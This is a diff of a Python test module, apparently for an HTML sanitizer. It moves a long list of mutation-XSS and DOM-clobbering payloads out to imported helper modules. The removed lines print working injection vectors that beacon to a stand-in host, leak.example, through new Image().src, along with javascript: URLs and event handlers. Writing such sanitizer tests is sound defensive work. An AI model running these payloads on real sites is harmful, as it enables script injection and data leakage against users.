@@ -5,11 +5,8 @@ it is parsed or when it is clicked; pictures that an article may show are asked
 of http://picture.example/.
 """
 
-LEAK = "http://leak.example/"
-RAN = "new Image().src='http://leak.example/ran'+Math.random()"
-CODED = "&#110;ew Image().src='http://leak.example/ran'+Math.random()"
-IMG = f'<img src=x onerror="{RAN}">'
-ESCAPED = f"&lt;img src=x onerror=&quot;{RAN}&quot;&gt;"
+from tests.clean_mutations import clobbering, mutations
+from tests.clean_payloads import CODED, LEAK, RAN
 
 
 def _scripts():
@@ -308,118 +305,13 @@ def _requests():
         yield f'<iframe src="{url}"></iframe>'
 
 
-def _mutations():
-    yield from (
-        f'<noscript><p title="</noscript>{IMG}">',
-        f"<noscript><style></noscript>{IMG}</style>",
-        f"<noembed><p title='</noembed>{IMG}'>",
-        f"<noframes><p title='</noframes>{IMG}'>",
-        f"<xmp><p title='</xmp>{IMG}'>",
-        f"<iframe><p title='</iframe>{IMG}'>",
-        f"<textarea><p title='</textarea>{IMG}'>",
-        f"<title><p title='</title>{IMG}'>",
-        f"<style><p title='</style>{IMG}'>",
-        f"<template><p title='</template>{IMG}'>",
-        f"<plaintext><p title='</plaintext>{IMG}'>",
-        f"<listing>{ESCAPED}</listing>",
-        f"<xmp>{ESCAPED}</xmp>",
-        f"<pre>{ESCAPED}</pre>",
-        f"<code>{ESCAPED}</code>",
-        f"<textarea>{ESCAPED}</textarea>",
-        f"<option>{ESCAPED}</option>",
-        f'<a title="{ESCAPED}">x</a>',
-        f'<img alt="{ESCAPED}" src=http://picture.example/p.png>',
-        f'<img alt="`{ESCAPED}" src=http://picture.example/p.png>',
-        f'<p id="{ESCAPED}"><a href="#{ESCAPED}">x</a></p>',
-        f'<svg><p><style><a id="</style>{IMG}">',
-        f"<svg></p><style><a id='</style>{IMG}'>",
-        f'<svg><style><img title="</style>{IMG}">',
-        f"<svg><title><style><img title='</style></title>{IMG}'>",
-        f"<svg><desc><noscript><img title='</noscript>{IMG}'>",
-        f"<svg><foreignObject><p>{IMG}</p></foreignObject></svg>",
-        f"<svg><foreignObject><iframe srcdoc='{ESCAPED}'></foreignObject></svg>",
-        f"<svg><![CDATA[</svg>{IMG}]]>",
-        f"<svg><![CDATA[><image xlink:href=']]>{IMG}'></svg>",
-        f"<svg><a><rect/></a><p>{IMG}</svg>",
-        f"<svg><set attributeName=onmouseover to={RAN}></svg>",
-        f"<svg><animate attributeName=href values=javascript:{RAN}></svg>",
-        f"<svg><a><animate attributeName=href to=javascript:{RAN} /><text>x</text></a></svg>",
-        f"<svg><animateTransform onbegin='{RAN}'></svg>",
-        f"<svg><handler type='text/javascript'>{RAN}</handler></svg>",
-        f"<svg><discard onbegin='{RAN}'></svg>",
-        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RAN}>#x'></svg>",
-        f"<svg/onload='{RAN}'/>",
-        f"<svg><desc><![CDATA[</desc><script>{RAN}</script>]]></svg>",
-        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{ESCAPED}'>",
-        f"<math><mtext><table><mglyph><style><![CDATA[</style><img title=']]&gt;{ESCAPED}'>",
-        f"<math><mi><table><mglyph><svg><mtext><style><path id='</style>{IMG}'>",
-        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{IMG}'>",
-        f"<math><annotation-xml encoding='text/html'><style>{IMG}</style></annotation-xml></math>",
-        f"<math><annotation-xml encoding='text/html'>{IMG}</annotation-xml></math>",
-        f"<math><annotation encoding='text/html'>{IMG}</annotation></math>",
-        f"<math><semantics><mi>x</mi><annotation-xml><svg onload='{RAN}'></annotation-xml></math>",
-        f"<math><mtext>{IMG}</mtext></math>",
-        f"<math><mi>{IMG}</mi><mo><script>{RAN}</script></mo></math>",
-        f"<math><ms><p title='</ms></math>{IMG}'>",
-        f"<math><maction actiontype=statusline xlink:href=javascript:{RAN}>x</maction></math>",
-        f"<math><mglyph src={LEAK}glyph></math>",
-        f"<math><mstyle background='url({LEAK}mstyle)'>x</mstyle></math>",
-        f"<math alttext='{ESCAPED}'><mi>x</mi></math>",
-        f"<!--><img src=x onerror='{RAN}'>-->",
-        f"<!---><img src=x onerror='{RAN}'>-->",
-        f"<!-- --!><img src=x onerror='{RAN}'>-->",
-        f"<!--<img title='-->{IMG}'>",
-        f"<!x><img src=x onerror='{RAN}'>",
-        f"<!doctype [<!entity x '{IMG}'>]><p>&x;</p>",
-        f"<?x ><img src=x onerror='{RAN}'>?>",
-        f"<?php echo '>{IMG}' ?>",
-        f"<%= '%>{IMG}' %>",
-        f"<![if IE]>{IMG}<![endif]>",
-        f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
-        f"<![CDATA[{IMG}]]>",
-        f"<![CDATA[<!--]]>{IMG}<![CDATA[-->]]>",
-        f"</p title='>{IMG}'>",
-        f"</ title='>{IMG}'>",
-        f"<table><a href=x><table><a href=y>{IMG}</table></a></table>",
-        f"<table><td><select><table><td></select>{IMG}",
-        f"<select><template><style><!--</template><a rel='--></style>{IMG}'>",
-        f"<select><option><style></option></select>{IMG}</style>",
-        f"<form id=x></form><button form=x formaction='javascript:{RAN}'>b</button>",
-        f"<a><p><a><p>{IMG}</a></p></a>",
-        f"<b><p><b><p><i></b></p></i>{IMG}",
-        f"<nobr><table><nobr>{IMG}</table></nobr>",
-        f"<frameset><noframes>{IMG}</noframes></frameset>",
-        f"<object><noembed>{IMG}</noembed></object>",
-        f"<ruby><rt><style></rt></ruby>{IMG}</style>",
-        f"<details><summary><style></summary>{IMG}</style></details>",
-        f"<video><noscript><p title='</noscript></video>{IMG}'></video>",
-        f"<img src='http://picture.example/p.png' alt='x`onerror={RAN}'>",
-        f"<div><div><style></div></div>{IMG}<p title='</style>'>",
-        f"<p>&lt;script&gt;{RAN}&lt;/script&gt;</p>",
-        f"<p>&amp;lt;script&amp;gt;{RAN}&amp;lt;/script&amp;gt;</p>",
-        f"<p>+ADw-script+AD4-{RAN}+ADw-/script+AD4-</p>",
-        f"<p>\ud83c<img src=x onerror='{RAN}'>\udf89</p>",
-        f"<p>%3Cscript%3E{RAN}%3C/script%3E</p>",
-        f"<p>\uff1cscript\uff1e{RAN}\uff1c/script\uff1e</p>",
-        f"<x-{'y' * 50}><img src=x onerror='{RAN}'>",
-        f"<table><caption><style></caption></table>{IMG}</style>",
-    )
-
-
-def _clobbering():
-    for name in ("attributes", "parentNode", "innerHTML", "cookie", "getElementById", "body",
-                 "firstChild", "nodeName", "location", "implementation", "childNodes"):  # fmt: skip
-        yield f'<form id="{name}"><input name="{name}"></form><img name="{name}" id="{name}">'
-        yield f'<a id="{name}" name="{name}" href="clob:x">x</a><a id="{name}">y</a>'
-
-
 CLASSES = {
     "script": tuple(_scripts()),
     "handler": tuple(_handlers()),
     "script-url": tuple(_script_urls()),
     "request": tuple(_requests()),
-    "mutation": tuple(_mutations()),
-    "clobbering": tuple(_clobbering()),
+    "mutation": tuple(mutations()),
+    "clobbering": tuple(clobbering()),
 }
 FRAGMENTS = tuple(
     (f"{kind}-{number}", fragment)
